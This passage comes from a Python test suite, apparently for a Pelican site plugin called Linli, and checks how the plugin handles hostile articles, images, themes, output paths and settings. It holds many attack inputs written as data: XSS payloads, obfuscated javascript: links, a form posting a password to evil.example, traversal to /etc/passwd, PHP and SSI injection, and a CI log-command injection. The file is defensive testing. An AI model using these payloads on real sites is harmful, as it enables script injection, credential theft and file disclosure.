    Row("mathematics that hides markup", body(f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">二'), "built", "html-removed"),
    Row("a noscript that hides markup", body(f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">二</noscript>'), "error", "file-missing html-removed image-alt"),
    Row("a template that hides markup", body(f"<template><img src=x onerror={SCRIPT}></template>二"), "built", "html-removed", absent=(SCRIPT,)),
    Row("a style sheet", body("<style>@import 'https://evil.example/x.css'; body{display:none}</style>二"), "built", "html-removed", absent=("evil.example", "display:none")),
    Row("a style attribute", body('<p style="position:fixed;background:url(https://evil.example/)">二</p>'), "built", "html-removed", absent=("evil.example", "position:fixed")),
    Row("a link to a style sheet", body('<link rel="stylesheet" href="https://evil.example/x.css">二'), "built", "html-removed", absent=("evil.example",)),
    Row("a redirect", body('<meta http-equiv="refresh" content="0;url=https://evil.example/">二'), "built", "html-removed", absent=("evil.example",)),
    Row("a base address", body('<base href="https://evil.example/">[二](neighbour.md)'), "built", "html-removed", absent=("evil.example",)),
    Row("a form", body('<form action="https://evil.example/"><input name="密码"><button formaction="https://evil.example/b">登录</button></form>'), "built", "html-removed", absent=("evil.example", "密码")),
    Row("event handlers", body(f'<p onclick="{SCRIPT}" OnMouseOver={SCRIPT}>二</p><a href="https://a.example/" onfocus={SCRIPT} autofocus>三</a><details ontoggle={SCRIPT} open>四</details>'), "built", "html-removed", absent=(SCRIPT,)),
    Row("a picture that fails on purpose", all_of(file("images/x.png", PNG), body(f'<img src="images/x.png" alt="图" onerror="{SCRIPT}" srcset="https://evil.example/x 2x">')), "built", "html-removed", absent=(SCRIPT, "evil.example")),
    Row("a picture on another server", body('![图](https://evil.example/x.png "说明") ![<script>](//evil.example/y.png) <img alt=">" src=https://evil.example/z.png>'), "built", "external-image", absent=('src="https',), present=('href="https://evil.example/x.png"',)),
    Row("a picture on another server inside a link", body("[![图](https://evil.example/x.png)](neighbour.md)"), "built", "external-image", absent=("evil.example",)),
    Row("a picture in its own address", body("![图](data:image/svg+xml;base64,PHN2Zz4=) ![图](data:image/png;base64,AAAA)"), "error", "file-outside"),
    Row("files of one's own machine", body("[e](file:///etc/passwd) ![f](C:/Users/x.png)"), "error", "file-outside"),
    Row("links that are programs", body(f"[a](javascript:{SCRIPT}) [b](JaVaScRiPt:{SCRIPT}) [c](vbscript:{SCRIPT}) [d](data:text/html,{SCRIPT}) [f](&#106;avascript:{SCRIPT}) [g](java&#9;script:{SCRIPT})"), "built", "link-scheme", absent=(SCRIPT,)),
    Row("links that are programs, in HTML", body(f'<a href="java\nscript:{SCRIPT}">a</a><a href=" &#14; javascript&colon;{SCRIPT}">b</a><a href="\\x01javascript:{SCRIPT}">c</a><a href=\'jav&Tab;ascript:{SCRIPT}\'>d</a>'), "built", "control-character link-scheme", absent=(SCRIPT,)),
    Row("an address that runs, between angle brackets", body(f"<javascript:{SCRIPT}> <data:text/html,x>"), "built", "html-removed"),
    Row("a link without a scheme to another server", body("[a](//evil.example/x)"), "built", present=('href="https://evil.example/x"',)),
    Row("links that browsers mend into another server", body("[a](/\\evil.example) [b](/%2fevil.example) [c](///evil.example) [d](\\\\evil.example) [e](https:evil.example) [f](/%5cevil.example)"), "error", "link-missing link-scheme"),
    Row("a link with a quotation mark in its address", body("[a](https://a.example/\"onclick=alert) <https://a.example/\"onclick=x>"), "built"),
    Row("a link with a template's marks in its address", body("[a]({{7919*7907}}) [b]({% x %})"), "error", "link-missing"),
    Row("attached files", body("[a]({attach}neighbour.md) ![b]({attach}x.png)"), "error", "link-unsupported"),
    Row("other marks of Pelican", body("[a]({index}) [b]({author}x) [c]({category}x) [d](|filename|neighbour.md)"), "error", "link-unsupported"),
    Row("links that climb out", body("[a]({static}../../secret.md) [b]({filename}../../secret.md) ![c](../../secret.png) [d](../../secret.png) [e](%2e%2e/%2e%2e/secret.png)"), "error", "link-missing outside-link"),
    Row("links that climb out with backslashes", body("![a](..\\\\..\\\\secret.png) [b](..%5c..%5csecret.png)"), "error", "file-missing link-missing"),
    Row("a link with a NUL", body("[a](neighbour.md%00.png) ![b](%00)"), "error", "file-missing link-missing"),
    Row("an id of the page itself", body('<h2 id="linli-main">甲</h2><p id="linli-related">乙</p><a name="x" id="y">丙</a>'), "built"),
    Row("a document inside of the document", body("<!DOCTYPE html><html><head><title>甲</title></head><body class=x onload=alert(6177)>乙</body></html>"), "built", "html-removed", absent=(SCRIPT,)),
    Row("a comment that never closes", body("一\n\n<!-- 二\n\n三"), "built", present=("<p>三</p>",)),
    Row("a comment's text is not published", body("一\n\n<!-- 编辑注QX：未核实 -->\n\n二"), "built", absent=("编辑注QX",), present=("<p>二</p>",)),
    Row("a comment of the conditional kind", body(f"<!--[if IE]><script>{SCRIPT}</script><![endif]-->二"), "built", "html-removed", absent=(SCRIPT,)),
    Row("instructions for a server", body("一 <?php system('id') ?> 二\n\n<!--#include file=\"/etc/passwd\" -->\n\n<% x %> 三"), "built", "html-removed", absent=("system", "/etc/passwd")),
    Row("a section of raw characters", body("一\n\n<![CDATA[ 藏起来 ]]>\n\n二"), "built", "html-removed", absent=("藏起来",)),
    Row("an attribute that never closes", body('一\n\n<div title="二\n\n三\n\n四'), "built", present=("<p>四</p>",)),
    Row("text that swallows what follows", body("一\n\n<textarea>\n\n二 <b>三</b>"), "built", "html-removed"),
    Row("text that swallows the whole page", body("一\n\n<plaintext>\n\n二 <b>三</b>"), "built", "html-removed"),
    Row("the end of the page before its end", body("一</p></div></div></article></main></body></html>二"), "built", present=("二",)),
]

HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(40)

IMAGES = [
    Row("a text called .jpg", shows("x.jpg", b"hello"), "error", "not-a-picture"),
    Row("a picture of no bytes", shows("x.jpg", b""), "error", "not-a-picture"),
    Row("a telephone's picture", shows("x.heic", HEIC), "error", "image-unsupported", said=("HEIC",)),
    Row("a telephone's picture called .jpg", shows("x.jpg", HEIC), "error", "image-unsupported", said=("HEIC",)),
    Row("a telephone's picture to take along", all_of(file("files/x.HEIC", HEIC), body("[图](/files/x.HEIC)")), "error", "image-unsupported", said=("HEIC",)),
    Row("a picture cut off", shows("x.jpg", picture("JPEG", (300, 300))[:-400]), "error", "bad-image"),
    Row("a PNG called .jpg", shows("x.jpg", PNG), "error", "image-format", said=("PNG", ".jpg")),
    Row("a picture that claims to be enormous", shows("x.png", png_of(60_000, 60_000)), "error", "image-too-large"),
    Row("a picture that claims the largest size there is", shows("x.png", png_of(2**31 - 1, 2**31 - 1)), "error", "image-too-large"),
    Row("a picture of no size", shows("x.png", png_of(0, 0)), "error", "not-a-picture"),
    Row("a picture with fewer pixels than it claims", shows("x.png", png_of(5000, 5000, bytes(1000))), "error", "bad-image"),
    Row("a JPEG that takes a minute to unpack", shows("x.jpg", scan_bomb), "error", "bad-image", seconds=0.3),
    Row("a drawing", shows("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), "error", "asset-type"),
    Row("a drawing called .png", shows("x.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'), "error", "image-unsupported"),
    Row("a broken AVIF", shows("x.avif", picture("AVIF")[:120] + bytes(200)), "error", "not-a-picture"),
    Row("a picture with broken particulars", shows("x.jpg", picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x02\x88%\0\x04\xff\xff\xff\xff\xff\xff\xff\xff\0\0")), "built"),
    Row("a picture that says where it was taken", shows("x.jpg", located_picture()), "built", "image-location"),
    Row("a picture that says so in the newer form", shows("x.jpg", picture("JPEG", xmp=XMP)), "built", "image-location"),
    Row("a photograph with a second picture inside", shows("x.jpg", doubled()), "built"),
    Row("a picture that moves", shows("x.gif", animated()), "built"),
    Row("a picture with a page behind its end", shows("x.png", PNG + b"<script>alert(6177)</script>"), "built"),
    Row("a picture asked for with a question", all_of(file("images/x.png", PNG), body("![图](images/x.png?w=1&h=2#top)")), "built", absent=("w=1",)),
    Row("a picture with marks of addresses in its name", all_of(file("images/a?b#c%20d&e.png", PNG), body("![图](images/a%3Fb%23c%2520d&e.png)")), "built", present=("a%3Fb%23c%2520d%26e.png",)),
    Row("a picture with quotation marks in its name", all_of(file("images/a\" onerror='x.png", PNG), body("![图](<images/a%22 onerror='x.png>)")), "built"),
    Row("a cover of the wrong kind", all_of(file("images/x.pdf", b"%PDF"), header(配图="images/x.pdf")), "error", "image-unsupported image-alt"),
    Row("a picture that takes a page's place", all_of(file("articles/hostile.png", PNG), file("articles/b.md", article("![图](hostile.png)", 编号="hostile.png"))), "error", "same-url"),
    Row("a picture that takes the theme's place", all_of(file("theme/x.png", PNG), body("![图](/theme/x.png)")), "error", "same-url"),
    *(
        Row(f"a download of the kind {suffix}", all_of(file(f"files/x{suffix}", b"MZ"), body(f"[下载](/files/x{suffix})")), "error", "asset-type", said=(suffix,))
        for suffix in (".exe", ".js", ".php", ".svg", ".css", ".xml", ".sh")
    ),
    Row("a download of the kind .html", all_of(file("files/x.html", "<script>alert(1)</script>"), body("[下载](/files/x.html)")), "error", "link-missing not-markdown"),
    Row("a download that is the text of an article", body("[下载]({static}neighbour.md)"), "built", present=('href="/articles/neighbour/"',)),
    Row("a download that is a folder", all_of(folder("files/x.pdf"), body("[下载](/files/x.pdf)")), "error", "link-missing"),
    Row("a download larger than the limit", all_of(file("files/x.pdf", bytes(3000)), body("[下载](/files/x.pdf)"), setting(LINLI_ASSET_LIMIT=1)), "error", "asset-too-large"),
]

HIDDEN_WORDS = ("密稿标题QX", "密稿正文QX", "密稿标签QX", "密稿人QX", "密稿系列QX", "密稿栏目QX", "密稿副题QX", "密稿摘要QX", "secret-slug-qx", "secret-alias-qx", "secret-picture-qx", "secret-file-qx")


def hidden(status: str, **fields: str) -> Make:
    """Write a story that may not be seen, and neighbours that name it in every way they can."""
    said: dict[str, Any] = {
        **{"标题": "密稿标题QX", "副题": "密稿副题QX", "编号": "secret-slug-qx", "栏目": "密稿栏目QX"},
        **{"标签": "密稿标签QX、电梯", "作者": "密稿人QX", "系列": "密稿系列QX", "序号": "1", "摘要": "密稿摘要QX"},
        **{"别名": "secret-alias-qx", "配图": "images/secret-picture-qx.png", "状态": status, **fields},
    }
    return all_of(
        file("images/secret-picture-qx.png", PNG),
        file("files/secret-file-qx.pdf", b"%PDF"),
        file("articles/hidden.md", article("密稿正文QX。楼里装上了电梯。[附件](/files/secret-file-qx.pdf)", **said)),
        file("articles/one.md", article("楼里装上了电梯。[下一篇](hidden.md) [再一篇]({filename}hidden.md#x)", 标签="电梯", 相关="hidden", 系列="连载", 序号="1")),
        file("articles/three.md", article("楼里装上了电梯，第三篇。", 标题="第三篇", 标签="电梯", 系列="连载", 序号="2")),
    )


def gap() -> Make:
    """Write a series of which the middle part is a draft."""
    parts = {"1": "已发布", "2": "草稿", "3": "已发布"}
    return all_of(
        *(
            file(f"articles/part{number}.md", article(标题=f"{'密稿标题QX' if number == '2' else '连载'}（{number}）", 系列="连载", 序号=number, 状态=status))
            for number, status in parts.items()
        )
    )


HIDING = [
    *(
        Row(f"a story in the state {status} is named nowhere", hidden(status), "built", "image-alt link-unpublished pin-waits", absent=HIDDEN_WORDS, page="articles/one/index.html")
        for status in ("草稿", "待审", "draft", "Review")
    ),
    Row("a story of one hour later is named nowhere", hidden("已发布", 日期="2026-03-22 09:00"), "built", "image-alt link-unpublished pin-waits", absent=HIDDEN_WORDS, page="articles/one/index.html"),
    Row("a story of one second later, elsewhere, is named nowhere", hidden("已发布", 日期="2026-03-22T00:00:01Z"), "built", "image-alt link-unpublished pin-waits", absent=HIDDEN_WORDS, page="articles/one/index.html"),
    Row("a withdrawn story leaves its address and nothing else", hidden("已撤回"), "built", "image-alt link-gone pin-waits withdrawn-undated", absent=tuple(word for word in HIDDEN_WORDS if word != "secret-slug-qx"), page="articles/secret-slug-qx/index.html"),
    Row("a withdrawn story of tomorrow leaves not even that", hidden("已撤回", 日期="2026-03-23"), "built", "image-alt link-gone pin-waits withdrawn-undated", absent=HIDDEN_WORDS, page="articles/one/index.html"),
    Row("a person who wrote drafts only has no page, whatever the settings say", all_of(header(状态="草稿", 作者="密稿人QX"), setting(LINLI_PEOPLE={"密稿人QX": {"unit": "密稿单位QX", "biography": "密稿生平QX"}})), "built", absent=("密稿人QX", "密稿单位QX", "密稿生平QX"), page="index.html"),
    Row("a draft notice is named nowhere", file("notices/secret-slug-qx.md", article("密稿正文QX", 标题="密稿标题QX", 状态="草稿", 失效="2026-04-01")), "built", absent=HIDDEN_WORDS, page="notices/index.html"),
    Row("a draft page is named nowhere", page("secret-slug-qx.md", 标题="密稿标题QX", 状态="草稿"), "built", absent=HIDDEN_WORDS, page="index.html"),
    Row("a draft's place in its series is a gap without a name", gap(), "built", absent=HIDDEN_WORDS, present=("尚未刊出",), page="articles/part1/index.html"),
    Row("an expired notice stays, with its tags and people", file("notices/old.md", article(标题="旧通知QX", 日期="2026-01-02", 失效="2026-02-01", 标签="只此一枚", 作者="只此一人")), "built", page="notices/old/index.html", present=("旧通知QX", "已失效")),
    Row("a draft's faults are found all the same", header(状态="草稿", 日期="2026-02-30"), "error", "impossible-date"),
    Row("a draft is pinned in its own words, misspelt", all_of(hidden("草稿"), header(相关="密稿标题QY")), "error", "image-alt link-unpublished pin-waits unknown-story"),
]

THEME = [
    Row("a theme that is not there", lambda paper: setattr(paper, "theme", paper.root / "nowhere"), "config error", said=("templates/",)),
    Row("a theme without a template", theme(lambda folder: (folder / "templates/article.html").unlink()), "config error", said=("article.html",)),
    Row("a theme that names what does not exist", theme(template("article.html", "{{ page.titel }}")), "config error", said=("article.html:1", "titel")),
    Row("a theme with a fault in its grammar", theme(template("article.html", "{% for %}")), "config error", said=("article.html:1",)),
    Row("a theme that divides by nought", theme(template("article.html", "{{ 1 // 0 }}")), "config error", said=("article.html",)),
    Row("a theme that includes itself", theme(template("article.html", "{% include 'article.html' %}")), "config error", said=("article.html",)),
    Row("a theme that includes a file outside", theme(template("article.html", "{% include '../../secret.md' %}")), "config error", said=("secret.md",)),
    Row("a theme without words", theme(lambda folder: shutil.rmtree(folder / "lang")), "config error", said=("lang",)),
    Row("a theme with broken words", theme(lambda folder: (folder / "lang/zh-Hans.toml").write_text("a = [")), "config error", said=("zh-Hans.toml",)),
    Row("a theme with words of no encoding", theme(lambda folder: (folder / "lang/zh-Hans.toml").write_bytes(b"a = '\xff'")), "config error", said=("zh-Hans.toml",)),
    Row("a theme that fails on the last page only", theme(template("404.html", "{{ nothing }}")), "config error", said=("404.html",)),
    Row("a theme that links to a file outside", theme(lambda folder: (folder / "static/x.txt").symlink_to(folder.parent / "secret.md")), "config error", said=("x.txt",)),
]

OUTPUT = [
    Row("the output is the content folder", header(), "config error", output="content", said=("content",)),
    Row("the output is inside the content folder", header(), "config error", output="content/site", said=("inside",)),
    Row("the output is inside the content folder, by a detour", header(), "config error", output="output/../content/site"),
    Row("the output holds the content folder", header(), "config error", output="."),
    Row("the output is the whole machine", header(), "config error", output="/"),
    Row("the output is inside the theme's files", theme(), "config error", output="theme/static/site", said=("inside",)),
    Row("the output holds something else", beside("other/letter.txt", content="x"), "config error", output="other", said=("not empty",)),
    Row("the output is a file", beside("other", content="x"), "config error", output="other", said=("is a file",)),
    Row("the output is below a file", beside("other", content="x"), "config error", output="other/site"),
    Row("the output is a link to what is not ours", all_of(beside("other/letter.txt", content="x"), beside("linked", target="other")), "config error", output="linked", said=("not empty",)),
    Row("the output is a link to the content folder", beside("linked", target="content"), "config error", output="linked"),
    Row("the output is a link to itself", beside("linked", target="linked"), "config error", output="linked"),
    Row("the output has a name too long", header(), "config error", output="o" * 300),
    Row("the folder beside the output is a link to what is not ours", all_of(beside("other/old/letter.txt", content="x"), beside(".output.linli", target="other")), "config error", said=("link",)),
    Row("the folder beside the output is a file", beside(".output.linli", content="x"), "config error"),
    Row("another build holds the output", header(), "config error", tamper=held, said=("Another build",)),
    Row("a build was killed while it wrote", beside(".output.linli/new/articles/half.html", content="half"), "built", absent=("half",), page="index.html"),
    Row("a build was killed in the moment it switched", switched, "built", page="index.html"),
    Row("the output holds a page of another name", all_of(header(), beside("output/x/../index.html", content="old")), "built"),
]

NOTHING = all_of()
CONFIGS = [
    Row("a setting of Linli's that is misspelt", setting(LINLI_RELATD_LIMIT=3), "config error", said=("LINLI_RELATED_LIMIT",)),
    Row("a setting of Linli's that is nothing like any", setting(LINLI_XYZZY=3), "config error", said=("LINLI_XYZZY",)),
    *(
        Row(f"{name} is {value!r:.40}", setting(**{name: value}), "config error", said=(name,))
        for name, value in (
            ("SITENAME", 5),
            ("SITENAME", "邻\0里"),
            ("SITENAME", "邻\ud800里"),
            ("SITEURL", "javascript:alert(1)"),
            ("SITEURL", 'https://a.example/"><script>'),
            ("SITEURL", "https://a.example/?x=1"),
            ("SITEURL", "https://user:pass@a.example/"),
            ("TIMEZONE", "../../etc/passwd"),
            ("TIMEZONE", "Mars/Olympus"),
            ("DEFAULT_LANG", 'zh" onload="x'),
            ("DEFAULT_PAGINATION", -1),
            ("DEFAULT_PAGINATION", "20"),
            ("PAGE_PATHS", ["../pages"]),
            ("PAGE_PATHS", "pages"),
            ("LINLI_NOTICE_PATHS", [".."]),
            ("LINLI_COLUMNS", "社区"),
            ("LINLI_COLUMNS", [{"name": "社区", "slug": "../x"}]),
            ("LINLI_COLUMNS", [{"name": "..."}]),
            ("LINLI_COLUMNS", [{"nmae": "社区"}]),
            ("LINLI_COLUMNS", [{"name": "甲", "slug": "a"}, {"name": "乙", "slug": "a"}]),
            ("LINLI_PEOPLE", {5: {}}),
            ("LINLI_PEOPLE", {"周岚": "记者"}),
            ("LINLI_FIELDS", {"title": {}}),
            ("LINLI_FIELDS", {"phone": {"type": "object"}}),
            ("LINLI_FIELDS", {"phone": {"type": "choice"}}),
            ("LINLI_REQUIRED", {"article": ["titel"]}),
            ("LINLI_REQUIRED", {"artikel": []}),
            ("LINLI_ASK_URL", "javascript:alert(1)"),
            ("LINLI_NOTES", [{"text": "x", "url": "data:text/html,x"}]),
            ("LINLI_SHARE", ["evil"]),
            ("LINLI_TIME_LIMIT", float("nan")),
            ("LINLI_TIME_LIMIT", True),
            ("LINLI_FILE_LIMIT", 0),
            ("LINLI_REUSE", "steal"),
        )
    ),
    Row("a configuration that is not Python", NOTHING, "config error", config="x = (", said=("pelicanconf.py:1", "SyntaxError")),
    Row("a configuration with a NUL", NOTHING, "config error", config=b"x = 1\0"),
    Row("a configuration of no encoding", NOTHING, "config error", config=b"x = '\xff\xfe'"),
    Row("a configuration that fails", NOTHING, "config error", config="import os\n1 / 0", said=("pelicanconf.py:2", "ZeroDivisionError")),
    Row("a configuration that leaves with success", NOTHING, "config error", config="import sys\nsys.exit(0)", said=("pelicanconf.py:2", "SystemExit")),
    Row("a configuration that never ends calling itself", NOTHING, "config error", config="def f(): f()\nf()", said=("RecursionError",)),
    Row("a configuration without a name for anything", file("articles/neighbour.md", article("好邻居在这里。", 标题="好邻居", 来源=None)), "built", "nowhere-to-ask", config="", page="index.html"),
]

# fmt: on
ROWS: list[Row] = [
    *HEADERS,
    *YAML,
    *CHARACTERS,
    *FILES,
    *SLOW,
    *HTML,
    *IMAGES,
    *HIDING,
    *THEME,
    *OUTPUT,
    *CONFIGS,
]


@dataclass(frozen=True)
class Command:
    """An attempt through a command of its own, in another process: ``words`` as typed, and what comes back."""

    name: str
    make: Make
    words: str
    code: int
    said: tuple[str, ...] = ()
    variables: tuple[tuple[str, str], ...] = ()


LINLI = "linli build --config pelicanconf.py --now 2026-03-22T08:00:00+08:00"
PELICAN = "pelican content -s pelicanconf.py -o output"
# fmt: off
COMMANDS = [
    Command("a pipe does not hang the command", pipe(HOSTILE), LINLI, 1, ("not-a-file",)),
    Command("brackets do not hang the command", all_of(body("[" * N), setting(LINLI_TIME_LIMIT=0.5)), LINLI, 1, ("too-slow",)),
    Command("a name that is no text goes through JSON", raw_name(b"a\xff.md"), f"{LINLI} --format json", 1, ('"rule": "bad-file-name"',)),
    Command("a name with a line break goes through GitHub", raw_name(b"a\n::warning::owned.md"), f"{LINLI} --format github", 1, ("title=bad-file-name",)),
    Command("a console without Chinese", header(标题="停\u202e水"), LINLI, 0, ("control-character",), (("PYTHONUTF8", "0"), ("PYTHONIOENCODING", "ascii"))),
    Command("a misspelt setting", setting(LINLI_RELATD_LIMIT=1), LINLI, 2, ("LINLI_RELATED_LIMIT",)),
    Command("a name too long for the system", NOTHING, f"{LINLI} --content {'c' * 300}", 2),
    Command("an output inside the content", NOTHING, f"{LINLI} --output content/site", 2, ("content",)),
    Command("an unknown option", NOTHING, f"{LINLI} --bogus", 2, ("--bogus",)),
    Command("a report that is a folder", NOTHING, f"{LINLI} --report content", 2, ("content",)),
    Command("Pelican's own command: hostile content", header(save_as="../../x"), PELICAN, 1, ("reserved-field",)),
    Command("Pelican's own command: a misspelt setting", setting(LINLI_RELATD_LIMIT=1), PELICAN, 2, ("LINLI_RELATED_LIMIT",)),
]
# fmt: on
"""A handful: each costs a second, and what happens inside is tried in the rows."""

OUTSIDE = {
    "secret.md": article(UNPUBLISHED),
    "secret.png": UNPUBLISHED,
    "secret/inside.md": article(UNPUBLISHED),
}
"""What lies beside the content folder in every row."""
